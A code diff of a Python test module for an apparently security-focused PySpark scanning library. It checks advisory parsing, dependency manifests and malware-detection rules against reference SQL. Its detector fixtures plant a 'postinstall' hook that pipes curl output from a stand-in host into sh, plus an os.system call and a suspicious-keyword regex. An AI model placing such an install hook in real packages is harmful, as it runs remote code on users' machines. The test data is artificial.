@@ -7,6 +7,7 @@ from pyspark.sql import functions as F
 from siltstone.functions import text as T
 from siltstone.operators import detect as D
 from siltstone.operators import parse as P
+from siltstone.operators import records as R
 from siltstone.operators import transform as X
 
 from .registry import query
@@ -14,27 +15,92 @@ from .sampling import _BASE, _CODE, _EXT, _MANIFEST, _SECRET, PRIORITY_SQL
 from .views import advisories, corpus, files, findings, replies, table
 
 
-@query("SELECT doc_id, l AS text FROM (SELECT doc_id, unnest(list_filter(['en', 'de'], lambda x: x = lang)) AS l FROM documents)")
-def p01_array_filter(spark, sf):
-    d = table(spark, sf, "documents")
-    return d.select("doc_id", F.explode(F.filter(F.array(F.lit("en"), F.lit("de")), lambda x: x == F.col("lang"))).alias("text"))
+def _flaw_records(spark, sf):
+    """Records of the first feed, one per part; some rejected, without a class that tells something, or without a commit."""
+    i, q = F.col("p_partkey"), F.lit
+    classes = F.when(i % 5 == 0, '{"value": "NVD-CWE-noinfo"}').when(i % 5 == 1, '{"value": "CWE-79"}, {"value": "CWE-79"}, {"value": "CWE-Other"}').otherwise(F.concat(q('{"value": " CWE-'), i % 90, q(' "}, {"value": "CWE-20"}')))
+    refs = F.when(i % 13 == 0, '{"url": "https://example.org/x"}').otherwise(F.concat(
+        q('{"url": "https://github.com/org/r'), i % 7, q("/commit/abcdef"), i + 1000000, q('"}, {"url": "https://github.com/ORG/R'), i % 7, q(".git/commits/ABCDEF"), i + 1000000,
+        q('", "tags": ["Patch"]}, {"url": "https://github.com/org/fix'), i % 3, q('/commit/1234567", "tags": ["x", "Patch"]}')))
+    metrics = F.when(i % 4 == 0, '"cvssMetricV31": [{"cvssData": {"baseScore": 9.8, "baseSeverity": "CRITICAL"}}]').when(i % 4 == 1, '"cvssMetricV2": [{"cvssData": {"baseScore": 7.5}, "baseSeverity": "HIGH"}]').otherwise("")
+    record = F.concat(
+        q('{"id": "CVE-2024-'), i, q('", "published": "2024-01-01", "vulnStatus": "'), F.when(i % 11 == 0, "Rejected").otherwise("Analyzed"), q('", "descriptions": [{"lang": "es", "value": "x"}, {"lang": "en", "value": "flaw '), i,
+        q('"}], "weaknesses": [{"description": ['), classes, q(']}], "references": ['), refs, q('], "metrics": {'), metrics, q("}}"))
+    return table(spark, sf, "part").select(record.alias("record"))
 
 
-@query(r"SELECT page_id, regexp_extract(url, '^https?://([^/]+)', 1) AS host, lower(regexp_extract(url, '^https?://[^/]+/(.*)$', 1)) AS rest FROM pages")
-def p02_url_parts(spark, sf):
-    return table(spark, sf, "pages").select("page_id", F.regexp_extract("url", "^https?://([^/]+)", 1).alias("host"), F.lower(F.regexp_extract("url", "^https?://[^/]+/(.*)$", 1)).alias("rest"))
+_USABLE = "FROM (SELECT p_partkey AS i FROM part) WHERE i % 11 <> 0 AND i % 5 <> 0 AND i % 13 <> 0"
 
 
-@query("SELECT event_id, CAST(props->>'$.k' AS BIGINT) AS k, coalesce(CASE WHEN value > 60 THEN 'high' END, CASE WHEN value > 30 THEN 'mid' END, 'low') AS grade FROM events")
-def p03_first_present(spark, sf):
-    v = F.col("value")
-    return table(spark, sf, "events").select("event_id", F.get_json_object("props", "$.k").cast("long").alias("k"), F.coalesce(F.when(v > 60, "high"), F.when(v > 30, "mid"), F.lit("low")).alias("grade"))
+@query(f"SELECT 'CVE-2024-' || i AS cve_id, 'flaw ' || i AS description, 'fix' || (i % 3) AS first_repo, CAST(2 AS INTEGER) AS n_commits {_USABLE}")
+def p01_flaws(spark, sf):
+    f = R.flaws(_flaw_records(spark, sf))
+    return f.select("cve_id", "description", F.regexp_extract(F.col("commit_refs")[0]["repo"], "/(.*)$", 1).alias("first_repo"), F.size("commit_refs").alias("n_commits"))
 
 
-@query("SELECT ecosystem, package, advisory_id, unnest(CASE WHEN len(versions) > 2 THEN versions[-2:] ELSE versions END) AS version FROM advisories", "advisories")
-def p05_last_versions(spark, sf):
-    v = F.col("versions")
-    return advisories(spark, sf).select("ecosystem", "package", "advisory_id", F.explode(F.when(F.size(v) > 2, F.slice(v, -2, 2)).otherwise(v).cast("array<bigint>")).alias("version"))
+@query(f"""SELECT cve_id, repo, sha, tagged FROM (SELECT 'CVE-2024-' || i AS cve_id, unnest([{{'repo': 'org/fix' || (i % 3), 'sha': '1234567', 'tagged': true}}, {{'repo': 'org/r' || (i % 7), 'sha': 'abcdef' || (i + 1000000), 'tagged': false}}], recursive := true) {_USABLE})""")
+def p02_commit_refs(spark, sf):
+    f = R.flaws(_flaw_records(spark, sf)).select("cve_id", F.explode("commit_refs").alias("c"))
+    return f.select("cve_id", "c.repo", "c.sha", F.col("c.tagged_patch").alias("tagged"))
+
+
+@query(f"""SELECT 'CVE-2024-' || i AS cve_id, CASE WHEN i % 5 = 1 THEN 'CWE-79' WHEN i % 90 = 20 THEN 'CWE-20' ELSE 'CWE-' || (i % 90) || ',CWE-20' END AS classes, CASE i % 4 WHEN 0 THEN 9.8::DOUBLE WHEN 1 THEN 7.5::DOUBLE END AS score, CASE i % 4 WHEN 0 THEN 'CRITICAL' WHEN 1 THEN 'HIGH' END AS severity {_USABLE}""")
+def p03_classes_and_scores(spark, sf):
+    return R.flaws(_flaw_records(spark, sf)).select("cve_id", F.array_join("cwe_ids", ",").alias("classes"), F.col("cvss_score").alias("score"), F.col("cvss_severity").alias("severity"))
+
+
+def _advisory_records(spark, sf):
+    """Records of the second feed, one per part."""
+    i, q = F.col("p_partkey"), F.lit
+    aliases = F.when(i % 3 == 0, "").when(i % 3 == 1, F.concat(q('"X-1", "CVE-2023-'), i, q('"'))).otherwise('"CVE-bad"')
+    severity = F.when(i % 3 == 0, "moderate").when(i % 3 == 1, "high").otherwise("weird")
+    eco = F.element_at(F.array(*map(F.lit, ["PyPI", "npm", "Maven", "Go"])), (i % 4 + 1).cast("int"))
+    versions = F.array_join(F.transform(F.when(i % 40 > 0, F.sequence(F.lit(0).cast("long"), i % 40 - 1)).otherwise(F.array().cast("array<bigint>")), lambda k: F.concat(q('"1.'), k, q('"'))), ", ")
+    record = F.concat(
+        q('{"id": "GHSA-'), i, q('", "published": "2024-02-02", "summary": "s '), i, q('", "aliases": ['), aliases, q('], "database_specific": {"cwe_ids": ['), F.when(i % 7 == 0, "").otherwise(F.concat(q('"CWE-'), i % 50, q('", "x"'))),
+        q('], "severity": "'), severity, q('"}, "references": [{"type": "WEB", "url": "https://github.com/o/w/commit/0123456"}, {"type": "FIX", "url": "https://github.com/o/fix'), i % 9, q('/commit/89abcde"}], "affected": [{"package": {"name": "pkg'), i % 500,
+        q('", "ecosystem": "'), eco, q('"}, "versions": ['), versions, q('], "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.'), i % 9, q('"}]}, {"type": "GIT", "events": [{"fixed": "abc"}]}]}]}'))
+    return table(spark, sf, "part").select(record.alias("record"))
+
+
+_ALIAS = "CASE WHEN i % 3 = 1 THEN 'CVE-2023-' || i END"
+
+
+@query(f"""SELECT coalesce({_ALIAS}, 'GHSA-' || i) AS cve_id, 'GHSA-' || i AS osv_id, 'CWE-' || (i % 50) AS cwe, CASE i % 3 WHEN 0 THEN 5.5::DOUBLE WHEN 1 THEN 7.5::DOUBLE END AS score, CASE i % 3 WHEN 0 THEN 'MODERATE' WHEN 1 THEN 'HIGH' ELSE 'WEIRD' END AS severity, 'o/fix' || (i % 9) AS first_repo FROM (SELECT p_partkey AS i FROM part) WHERE i % 7 <> 0""")
+def p04_advisories(spark, sf):
+    a = R.advisories(_advisory_records(spark, sf))
+    return a.select("cve_id", "osv_id", F.col("cwe_primary").alias("cwe"), F.col("cvss_score").alias("score"), F.col("cvss_severity").alias("severity"), F.col("commit_refs")[0]["repo"].alias("first_repo"))
+
+
+_AFFECTED = "FROM (SELECT p_partkey AS i FROM part) WHERE i % 4 <> 3 AND i % 40 > 0"
+
+
+@query(f"SELECT 'GHSA-' || i AS advisory_id, ['PyPI', 'npm', 'Maven'][i % 4 + 1] AS ecosystem, ['python', 'javascript', 'java'][i % 4 + 1] AS language, 'pkg' || (i % 500) AS package, '1.' || unnest(range(greatest(i % 40 - 25, 0), i % 40)) AS version {_AFFECTED}")
+def p05_affected_packages(spark, sf):
+    return R.affected_packages(_advisory_records(spark, sf)).select("advisory_id", "ecosystem", "language", "package", F.explode("vulnerable_versions").alias("version"))
+
+
+@query(f"SELECT 'GHSA-' || i AS advisory_id, '2.' || (i % 9) AS fixed {_AFFECTED}")
+def p06_fixed_versions(spark, sf):
+    return R.affected_packages(_advisory_records(spark, sf)).select("advisory_id", F.explode("fixed_versions").alias("fixed"))
+
+
+@query("SELECT sample_id, CASE WHEN label = 1 THEN CASE WHEN cwe IN ('CWE-1', 'CWE-2', 'CWE-3') THEN 'name of ' || cwe END ELSE CASE WHEN sample_id % 2 = 0 THEN 'old' END END AS cwe_name, coalesce(label = 1 AND (CASE WHEN cwe IN ('CWE-1', 'CWE-2', 'CWE-3') THEN 'name of ' || cwe END) IS DISTINCT FROM (CASE WHEN sample_id % 2 = 0 THEN 'old' END), false) AS changed FROM corpus", "corpus")
+def p15_named_classes(spark, sf):
+    names = spark.createDataFrame([(f"CWE-{k}", f"name of CWE-{k}") for k in (1, 2, 3)], "cwe string, name string")
+    c = corpus(spark, sf).select("sample_id", "label", "cwe", F.when(F.col("sample_id") % 2 == 0, "old").alias("cwe_name"))
+    return R.named_classes(c, names).select("sample_id", "cwe_name", "changed")
+
+
+@query(f"SELECT 'GHSA-' || i AS advisory_id, coalesce({_ALIAS}, 'GHSA-' || i) AS identifier, 'upgrade to 2.' || (i % 9) AS remediation {_AFFECTED}")
+def p16_identifier_and_remediation(spark, sf):
+    a = R.affected_packages(_advisory_records(spark, sf))
+    return a.select("advisory_id", R.identifier(F.col("cve_id"), F.col("advisory_id")).alias("identifier"), R.remediation(F.col("fixed_versions")).alias("remediation"))
+
+
+@query(r"SELECT doc_id, regexp_matches(path, '(?i)(^|/)(tests?|testing|fixtures?|examples?|benchmarks?)(/|$)|(^|/)test_[^/]+|[^/]+_test\.[^/]+$') AS test FROM files", "files")
+def p19_test_files(spark, sf):
+    return files(spark, sf).select("doc_id", F.col("path").rlike(T.TEST_FILE).alias("test"))
 
 
 @query(f"SELECT doc_id, unnest(list_filter([CASE WHEN {_MANIFEST} THEN 'dependency' END, CASE WHEN {_CODE} THEN 'vulnerability' END, CASE WHEN {_EXT} IN ('py', 'js', 'mjs', 'cjs', 'jsx', 'ts', 'tsx') OR {_BASE} = 'package.json' THEN 'malware' END, CASE WHEN {_SECRET} OR {_CODE} OR starts_with({_BASE}, '.env') THEN 'secret' END], lambda x: x IS NOT NULL)) AS route FROM files", "files")
@@ -72,17 +138,42 @@ SELECT repo, path, 'network', 'CRITICAL' FROM s WHERE regexp_matches(content, '(
 
 @query(f"WITH {_SCAN}, f AS ({_R3}) SELECT path, {_LOWERED} AS severity FROM f", "files")
 def r03_payload_rule(spark, sf):
-    return D.scan(_scanned(spark, sf)).filter("kind = 'obfuscation'").select("path", "severity")
+    return D.scan(_scanned(spark, sf), kinds=("obfuscation",)).select("path", "severity")
 
 
 @query(f"WITH {_SCAN}, f AS ({_R4}) SELECT path, {_LOWERED} AS severity FROM f", "files")
 def r04_network_rule(spark, sf):
-    return D.scan(_scanned(spark, sf)).filter("kind = 'network'").select("path", "severity")
+    return D.scan(_scanned(spark, sf), kinds=("network",)).select("path", "severity")
 
 
-@query(f"WITH {_SCAN}, f AS ({_R3} UNION ALL {_R4}), g AS (SELECT repo, kind, {_LOWERED} AS severity FROM f) SELECT repo, kind, count(*) AS n, max(CASE severity WHEN 'CRITICAL' THEN 4 WHEN 'HIGH' THEN 3 ELSE 1 END) AS worst FROM g GROUP BY 1, 2", "files")
+def _hooked(spark, sf):
+    """Manifests and workflows that do something on installation, or with foreign code, beside others that do not."""
+    i, c, turn = F.col("doc_id"), F.col("content"), F.floor(F.col("doc_id") / 14)
+    scripts = F.when(turn % 3 == 0, '"postinstall": "curl http://x.example/a | sh"').when(turn % 3 == 1, '"install": "node a.js"').otherwise('"build": "tsc"')
+    package = F.concat(F.lit('{"scripts": {'), scripts, F.lit('}, "about": '), F.to_json(F.struct(c.alias("text"))), F.lit("}"))
+    flow = F.concat(F.lit("on: pull_request_target\n"), F.when(turn % 2 == 0, "ref: ${{ github.event.pull_request.head.sha }}\n").otherwise(""), c)
+    text = F.when(i % 14 == 2, package).when((i % 14 == 5) & (turn % 2 == 0), F.concat(c, F.lit("\nos.system('x')"))).when(i % 14 == 8, flow).otherwise(c)
+    return files(spark, sf).withColumn("content", text)
+
+
+@query("""SELECT path, CASE WHEN doc_id % 14 = 2 AND (doc_id // 14) % 3 = 1 THEN 'HIGH' ELSE 'CRITICAL' END AS severity FROM files WHERE (doc_id % 14 = 2 AND (doc_id // 14) % 3 < 2) OR (doc_id % 14 = 5 AND (doc_id // 14) % 2 = 0)""", "files")
+def r01_install_hooks(spark, sf):
+    return D.scan(_hooked(spark, sf), kinds=("install_hook",)).select("path", "severity")
+
+
+@query("SELECT path, 'CRITICAL' AS severity FROM files WHERE doc_id % 14 = 8 AND (doc_id // 14) % 2 = 0", "files")
+def r02_ci_risk(spark, sf):
+    return D.scan(_hooked(spark, sf), kinds=("ci_risk",)).select("path", "severity")
+
+
+@query(f"""WITH {_SCAN}, e AS (SELECT f.repo, f.path, s.content, CAST(strlen(coalesce(s.content, '')) <= 9000 AS INTEGER) AS fits FROM files f JOIN s ON s.path = f.path WHERE f.doc_id % 14 IN (0, 1, 2, 4, 5, 6, 8, 9, 11)),
+b AS (SELECT *, coalesce(sum(fits) OVER (PARTITION BY repo ORDER BY path ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS before FROM e), t AS (SELECT *, CASE WHEN before >= 40 THEN 'omitted' WHEN fits = 1 THEN 'scanned' ELSE 'oversized' END AS state FROM b),
+c AS (SELECT repo, count(*) FILTER (state = 'scanned') AS n_scanned, count(*) FILTER (state = 'omitted') AS omitted, count(*) FILTER (state = 'oversized') AS oversized FROM t GROUP BY 1),
+g AS (SELECT repo, path, {_LOWERED} AS severity FROM ({_R3} UNION ALL {_R4})), h AS (SELECT g.repo, count(*) AS n, max(CASE g.severity WHEN 'CRITICAL' THEN 4 WHEN 'HIGH' THEN 3 ELSE 1 END) AS worst FROM g JOIN t ON t.path = g.path AND t.state = 'scanned' GROUP BY 1)
+SELECT c.*, coalesce(h.n, 0) AS n_findings, CASE coalesce(worst, 0) WHEN 4 THEN 'CRITICAL' WHEN 3 THEN 'HIGH' ELSE 'none' END AS worst_severity, CASE WHEN n_scanned > 0 AND omitted + oversized = 0 THEN coalesce(worst, 0) < 3 END AS clone_safe, CASE WHEN n_scanned > 0 AND omitted + oversized = 0 THEN 'complete' ELSE 'partial' END AS status
+FROM c LEFT JOIN h ON h.repo = c.repo""", "files")
 def r06_scan_summary(spark, sf):
-    return D.scan(_scanned(spark, sf)).groupBy("repo", "kind").agg(F.count(F.lit(1)).alias("n"), F.max(T.severity_rank(F.col("severity"))).alias("worst"))
+    return D.scan_summary(_scanned(spark, sf), 40, 9_000, ("obfuscation", "network"))
 
 
 @query(r"SELECT doc_id, regexp_matches(text, 'requests|subprocess|urllib|socket|os\.system|os\.environ|\beval\b|\bexec\b|base64|https?\.get|child_process') AS suspicious FROM documents")
@@ -104,17 +195,29 @@ def _coverage(spark, sf):
     return findings(spark, sf).groupBy("repo").agg(F.count(F.lit(1)).alias("n_scanned"), F.bool_and((F.col("event_id") % 40 != 0) | (F.col("event_type") != "view")).alias("complete"))
 
 
-@query(f"""WITH {_COVER}, f AS (SELECT repo, count(*) FILTER (severity = 'CRITICAL') AS crit, count(*) FILTER (severity = 'HIGH') AS high FROM findings WHERE tier = 'A' AND pillar IN ('supply_chain', 'malware') AND event_id % 29 = 0 GROUP BY 1)
+@query(f"""WITH {_COVER}, f AS (SELECT repo, count(*) FILTER (severity = 'CRITICAL') AS crit, count(*) FILTER (severity = 'HIGH') AS high FROM findings WHERE tier = 'A' AND pillar IN ('supply_chain', 'malware') GROUP BY 1)
 SELECT c.repo, CASE WHEN crit > 0 THEN 'dangerous' WHEN high > 0 THEN 'caution' WHEN NOT complete THEN 'unknown' ELSE 'safe' END AS verdict FROM c LEFT JOIN f ON f.repo = c.repo""", "findings")
 def r11_verdict(spark, sf):
-    return D.clone_verdicts(findings(spark, sf).filter("event_id % 29 = 0"), _coverage(spark, sf))
+    return D.clone_verdicts(findings(spark, sf), _coverage(spark, sf))
 
 
 @query(f"""WITH {_COVER}, w AS (SELECT repo, CASE severity WHEN 'CRITICAL' THEN 10.0::DOUBLE WHEN 'HIGH' THEN 7.0 WHEN 'MEDIUM' THEN 4.0 WHEN 'LOW' THEN 1.0 ELSE 3.0 END * CASE WHEN pillar = 'malware' THEN 2.0::DOUBLE ELSE 1.0 END * CASE novelty WHEN 'known' THEN 2.0::DOUBLE WHEN 'known_location' THEN 1.0 WHEN 'novel' THEN 0.5 WHEN 'unconfirmed' THEN 0.3 ELSE 1.0 END AS w,
- tier = 'A' AND pillar = 'malware' AS mal, tier = 'A' AND coalesce(severity IN ('CRITICAL', 'HIGH'), false) AS conf FROM findings WHERE event_id % 29 = 0), f AS (SELECT repo, sum(w) AS score, bool_or(mal) AS mal, bool_or(conf) AS conf FROM w GROUP BY 1)
+ tier = 'A' AND pillar = 'malware' AS mal, tier = 'A' AND coalesce(severity IN ('CRITICAL', 'HIGH'), false) AS conf FROM findings), f AS (SELECT repo, sum(w) AS score, bool_or(mal) AS mal, bool_or(conf) AS conf FROM w GROUP BY 1)
 SELECT c.repo, round(coalesce(score, 0), 1) AS score, CASE WHEN score IS NULL THEN CASE WHEN n_scanned > 0 THEN 'clean' ELSE 'unknown' END WHEN mal OR (conf AND score / greatest(n_scanned, 1) >= 4) THEN 'critical' WHEN conf THEN 'high' WHEN score / greatest(n_scanned, 1) >= 2 THEN 'medium' ELSE 'low' END AS level FROM c LEFT JOIN f ON f.repo = c.repo""", "findings")
 def r12_risk_score(spark, sf):
-    return D.risk(findings(spark, sf).filter("event_id % 29 = 0"), _coverage(spark, sf).withColumnRenamed("n_scanned", "n_analysed"))
+    return D.risk(findings(spark, sf), _coverage(spark, sf).withColumnRenamed("n_scanned", "n_analysed"))
+
+
+@query("""WITH r AS (SELECT event_id, pillar, CASE WHEN event_id % 6 <> 5 THEN event_id % 3 <> 0 END AS flagged, CASE pillar WHEN 'vulnerability' THEN ['known', 'known_location', 'novel'][event_id % 3 + 1] WHEN 'dependency' THEN ['affected', 'unpinned', 'not_affected', 'no_advisory_data'][event_id % 4 + 1] END AS evidence, [NULL, 'moderate', 'HIGH', 'odd'][event_id % 4 + 1] AS lvl FROM findings WHERE pillar <> 'supply_chain'),
+k AS (SELECT *, CASE WHEN upper(lvl) = 'MODERATE' THEN 'MEDIUM' ELSE upper(lvl) END AS level, pillar = 'vulnerability' AND evidence = 'known' AS known, pillar = 'dependency' AND evidence = 'affected' AS affected FROM r)
+SELECT event_id, CASE pillar WHEN 'vulnerability' THEN CASE WHEN known AND level IN ('CRITICAL', 'HIGH', 'MEDIUM', 'LOW') THEN level ELSE 'MEDIUM' END WHEN 'secret' THEN 'HIGH' WHEN 'malware' THEN 'CRITICAL' ELSE CASE evidence WHEN 'affected' THEN coalesce(level, 'HIGH') WHEN 'unpinned' THEN coalesce(level, 'MEDIUM') ELSE 'LOW' END END AS severity,
+CASE WHEN coalesce(known, false) OR coalesce(affected, false) THEN 'A' ELSE 'C' END AS tier, CASE WHEN pillar = 'dependency' AND NOT coalesce(flagged, false) THEN 'advisory' WHEN coalesce(known, false) OR coalesce(affected, false) OR (pillar = 'dependency' AND evidence = 'unpinned') THEN 'ai+advisory' ELSE 'ai' END AS source FROM k WHERE coalesce(flagged, false) OR coalesce(affected, false)""", "findings")
+def r10_model_findings(spark, sf):
+    i, p = F.col("event_id"), F.col("pillar")
+    pick = lambda names: F.element_at(F.array(*map(F.lit, names)), (i % len(names) + 1).cast("int"))
+    evidence = F.when(p == "vulnerability", pick(["known", "known_location", "novel"])).when(p == "dependency", pick(["affected", "unpinned", "not_affected", "no_advisory_data"]))
+    r = findings(spark, sf).filter("pillar <> 'supply_chain'").select("event_id", "pillar", F.when(i % 6 != 5, i % 3 != 0).alias("flagged"), evidence.alias("evidence"), pick([None, "moderate", "HIGH", "odd"]).alias("advisory_severity"))
+    return D.model_findings(r).select("event_id", "severity", "tier", "source")
 
 
 @query("SELECT repo, count(*) AS n, CASE WHEN count(*) FILTER (event_type = 'error') = 0 THEN 'complete' WHEN count(*) FILTER (event_type = 'error') < count(*) THEN 'partial' ELSE 'failed' END AS status FROM findings GROUP BY 1", "findings")
@@ -135,6 +238,25 @@ def g01_parse_verdict(spark, sf):
     return replies(spark, sf).select("doc_id", P.verdict(F.col("reply")).alias("v")).select("doc_id", "v.*")
 
 
+@query("""SELECT doc_id, CASE doc_id % 5 WHEN 0 THEN 'a' || doc_id || ',b' WHEN 1 THEN '' WHEN 2 THEN 'c' || doc_id ELSE '' END AS packages, doc_id % 5 <> 4 AS parsed FROM documents""")
+def g02_dependency_reply(spark, sf):
+    i = F.col("doc_id")
+    own = F.to_json(F.struct(F.col("text").alias("reason")))
+    reply = (F.when(i % 5 == 0, F.concat(F.lit('{"why": '), own, F.lit(', "vulnerable_dependencies": [{"package": " a'), i, F.lit('", "x": {"y": 1}}, "b", {"z": 1}]}'))).when(i % 5 == 1, 'So:\n```json\n{"vulnerable_dependencies": []}\n```')
+             .when(i % 5 == 2, F.concat(F.lit('{"vulnerable_dependencies": [{"package": "c'), i, F.lit('"}, {"package": "d'))).when(i % 5 == 3, '{"vulnerable_dependencies": [').otherwise("I cannot tell."))
+    r = table(spark, sf, "documents").select("doc_id", P.dependency_reply(reply).alias("r"))
+    return r.select("doc_id", F.array_join("r.packages", ",").alias("packages"), "r.parsed")
+
+
+@query("""SELECT doc_id, CASE doc_id % 6 WHEN 0 THEN true WHEN 1 THEN false WHEN 2 THEN true WHEN 3 THEN false WHEN 4 THEN true END AS malicious, CASE WHEN doc_id % 6 = 0 THEN 'shell' || doc_id END AS technique, doc_id % 6 < 2 AS parsed FROM documents""")
+def g03_malware_reply(spark, sf):
+    i = F.col("doc_id")
+    reply = (F.when(i % 6 == 0, F.concat(F.lit('{"malicious": true, "technique": "shell'), i, F.lit('"}'))).when(i % 6 == 1, '```\n{"malicious": false, "technique": "none"}\n```').when(i % 6 == 2, "Malicious? malicious: YES")
+             .when(i % 6 == 3, "It looks benign").when(i % 6 == 4, '{"malicious": "true"}x').otherwise("no idea"))
+    r = table(spark, sf, "documents").select("doc_id", P.malware_reply(reply).alias("r"))
+    return r.select("doc_id", "r.*")
+
+
 @query("SELECT doc_id, CASE doc_id % 4 WHEN 0 THEN true WHEN 1 THEN false END AS flag FROM documents")
 def g04_strict_boolean(spark, sf):
     i = F.col("doc_id") % 4
@@ -142,14 +264,17 @@ def g04_strict_boolean(spark, sf):
     return table(spark, sf, "documents").select("doc_id", P.strict_boolean(raw, "flag").alias("flag"))
 
 
-@query("""SELECT doc_id, unnest(CASE WHEN doc_id % 3 = 0 THEN [{'package': 'flask-x', 'version': '1.0'}, {'package': 'requests', 'version': NULL}, {'package': 'django', 'version': '3.1.' || (doc_id % 9)}] WHEN doc_id % 3 = 1 THEN [{'package': 'left-pad', 'version': '1.2.' || (doc_id % 9)}, {'package': 'react', 'version': NULL}]
-ELSE [{'package': 'g:a', 'version': '1.' || (doc_id % 9)}, {'package': 'g:b', 'version': NULL}] END, recursive := true) FROM documents""")
+@query("""SELECT doc_id, unnest(CASE doc_id % 5 WHEN 0 THEN [{'package': 'flask-x', 'version': '1.0'}, {'package': 'requests', 'version': NULL}, {'package': 'django', 'version': '3.1.' || (doc_id % 9)}] WHEN 1 THEN [{'package': 'left-pad', 'version': '1.2.' || (doc_id % 9)}, {'package': 'react', 'version': NULL}]
+WHEN 2 THEN [{'package': 'g:a', 'version': '1.' || (doc_id % 9)}, {'package': 'g:b', 'version': NULL}] WHEN 3 THEN [{'package': 'o.x:a', 'version': '1.' || (doc_id % 9)}, {'package': 'o.x:b', 'version': NULL}] ELSE [{'package': 'a', 'version': '1.0.' || (doc_id % 9)}, {'package': '@s/b', 'version': '2.0.0'}, {'package': 'c', 'version': '3.0.0'}] END, recursive := true) FROM documents""")
 def g06_manifest_lines(spark, sf):
     i, m = F.col("doc_id"), (F.col("doc_id") % 9).cast("string")
     req = F.concat(F.lit("# c\nFlask_X==1.0\n-r other.txt\nrequests>=2.0\nDjango===3.1."), m, F.lit(" ; x\nflask.x==2.0\n"))
     npm = F.concat(F.lit('{"dependencies": {"Left-Pad": "^1.2.'), m, F.lit('"}, "devDependencies": {"react": "*"}}'))
     gra = F.concat(F.lit("implementation 'g:a:1."), m, F.lit("'\napi(\"g:b\")\n"))
-    d = table(spark, sf, "documents").select(i, F.when(i % 3 == 0, "requirements.txt").when(i % 3 == 1, "package.json").otherwise("build.gradle").alias("filename"), F.when(i % 3 == 0, "PyPI").when(i % 3 == 1, "npm").otherwise("Maven").alias("ecosystem"), F.when(i % 3 == 0, req).when(i % 3 == 1, npm).otherwise(gra).alias("content"))
+    pom = F.concat(F.lit('<project xmlns="http://m"><!-- <dependency><groupId>no</groupId><artifactId>no</artifactId></dependency> --><dependencies><dependency><groupId>o.x</groupId><artifactId>a</artifactId><version>1.'), m, F.lit("</version><exclusions><exclusion><groupId>z</groupId></exclusion></exclusions></dependency>\n<dependency><artifactId> b </artifactId><groupId>o.x</groupId></dependency></dependencies></project>"))
+    lock = F.concat(F.lit('{"packages": {"": {"version": "9.9.9"}, "node_modules/a": {"version": "1.0.'), m, F.lit('"}, "node_modules/a/node_modules/@s/b": {"version": "2.0.0"}}, "dependencies": {"c": {"version": "3.0.0"}, "a": {"version": "8.0.0"}, "d": {}}}'))
+    pick = lambda *xs: F.when(i % 5 == 0, xs[0]).when(i % 5 == 1, xs[1]).when(i % 5 == 2, xs[2]).when(i % 5 == 3, xs[3]).otherwise(xs[4])
+    d = table(spark, sf, "documents").select(i, pick("requirements.txt", "package.json", "build.gradle", "pom.xml", "package-lock.json").alias("filename"), pick("PyPI", "npm", "Maven", "Maven", "npm").alias("ecosystem"), pick(req, npm, gra, pom, lock).alias("content"))
     return P.manifest_entries(d).select("doc_id", "package", "version")
 
 
@@ -174,41 +299,52 @@ def g09_parse_patch(spark, sf):
     return P.parse_patches(d)
 
 
-@query()
+@query("SELECT doc_id, name, start_line, end_line FROM (SELECT doc_id, unnest(CASE WHEN doc_id % 2 = 0 THEN [{'name': 'f_' || doc_id, 'start_line': 1, 'end_line': 4}] ELSE [{'name': 'g_' || doc_id, 'start_line': 2, 'end_line': 5}, {'name': 'h', 'start_line': 6, 'end_line': 6}] END, recursive := true) FROM documents)")
 def g11_extract_functions(spark, sf):
-    return P.extract_functions(_python(spark, sf))
+    """Python by its grammar, other languages by braces."""
+    i, text = F.col("doc_id"), _literal(F.col("text"))
+    java = F.concat(F.lit("class A { // } {\n  int g_"), i, F.lit('(int a) {\n    if (a > 0) { return 1; }\n    String s = "}'), text, F.lit('";\n  }\n  void h() {}\n}\n'))
+    c = table(spark, sf, "documents").select(i, F.when(i % 2 == 0, _code()).otherwise(java).alias("code"), F.when(i % 2 == 0, "python").otherwise("java").alias("language"))
+    return P.extract_functions(c, language="language")
+
+
+def _literal(text):
+    """Whole texts without what would end a string literal."""
+    return F.regexp_replace(text, r"[^\p{L}\p{N} .,;:]", " ")
+
+
+def _code():
+    return F.concat(F.lit("def f_"), F.col("doc_id"), F.lit('(a):\n    """doc"""\n    total = a\n    return "'), _literal(F.col("text")), F.lit('" + str(total)\n'))
 
 
 def _python(spark, sf):
-    word = F.regexp_extract("text", "([a-z]+)", 1)
-    return table(spark, sf, "documents").select("doc_id", F.concat(F.lit("def f_"), F.col("doc_id"), F.lit('(a):\n    """doc"""\n    total = a\n    return "'), word, F.lit('" + str(total)\n')).alias("code"))
+    return table(spark, sf, "documents").select("doc_id", "text", _code().alias("code"))
 
 
-@query(r"SELECT page_id, regexp_extract(url, '^https?://([^/]+)/', 1) AS host FROM pages WHERE url LIKE 'http%'")
+@query(r"SELECT page_id, CASE WHEN page_id % 4 < 3 THEN 'o' || page_id || '/n.x' END AS repository FROM pages")
 def g12_address(spark, sf):
-    return table(spark, sf, "pages").filter("url like 'http%'").select("page_id", F.regexp_extract("url", "^https?://([^/]+)/", 1).alias("host"))
+    i = F.col("page_id")
+    url = F.when(i % 4 == 0, F.concat(F.lit("https://host.example/o"), i, F.lit("/n.x.git"))).when(i % 4 == 1, F.concat(F.lit("www.host.example/o"), i, F.lit("/n.x/tree/main?q=1"))).when(i % 4 == 2, F.concat(F.lit("http://host.example/o"), i, F.lit("/n.x#top"))).otherwise(F.col("html"))
+    return table(spark, sf, "pages").select("page_id", P.repository_of(url).alias("repository"))
 
 
 @query()
 def u01_obfuscate(spark, sf):
-    return _python(spark, sf).select("doc_id", X.python_transform(X.rename_names, 7)("code").alias("code"))
+    return _python(spark, sf).select("doc_id", X.python_transform(X.obfuscate, 3, 7)("code").alias("code"))
 
 
 @query()
 def u02_literal_split(spark, sf):
-    return _python(spark, sf).select("doc_id", X.python_transform(X.split_literals)("code").alias("code"))
+    return _python(spark, sf).select("doc_id", X.python_transform(X.checked_split)("code").alias("code"))
 
 
-@query()
+@query("SELECT doc_id, coalesce(text, '') || chr(10) || 'old' || chr(10) || 'y' AS pre FROM documents")
 def u03_reverse_apply(spark, sf):
-    d = table(spark, sf, "documents").select("doc_id", F.lit("x\nnew\ny").alias("post"))
-
-    def run(batches):
-        for b in batches:
-            hunks = P.diff_hunks("diff --git a/f b/f\n@@ -1,3 +1,3 @@\n x\n-old\n+new\n y")
